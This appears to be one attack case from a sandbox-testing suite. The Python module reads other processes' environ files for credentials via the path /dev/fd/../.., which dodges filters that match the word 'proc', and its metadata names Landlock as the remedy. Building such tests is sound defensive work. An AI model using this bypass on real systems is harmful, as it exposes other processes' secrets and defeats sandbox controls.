# SPDX-License-Identifier: MIT
"""Goal:  the worker's credentials, past any filter that looks for "proc" in a path.
Means: /dev/fd is a link to /proc/self/fd, so /dev/fd/../.. is /proc, and the word never occurs.
"""

from attack import DONE, attempting, credential, denied, loot, neighbours


def run(brief):
    why = "nobody else in sight"
    attempting()
    for pid in neighbours(brief):
        try:
            with open(f"/dev/fd/../../{pid}/environ", "rb") as file:
                found = credential(file.read())
        except OSError as error:
            why = error
            continue
        if found:
            loot(found)
            return DONE
    return denied("/dev/fd/../../PID/environ", why)


ATTACK = {
    "effect": "the worker's environment is read through /proc",
    "means": "/dev/fd/../../PID/environ, which does not contain the word proc",
    "oracle": "secret:environ",
    "quick": True,
    "id": "PROC-06",
    "attack_id": "T1057, T1003.007, CWE-22",
    "remedy": "Landlock without /proc, which judges the file and not its name",
    "refs": ["proc(5)"],
    "run": run,
}
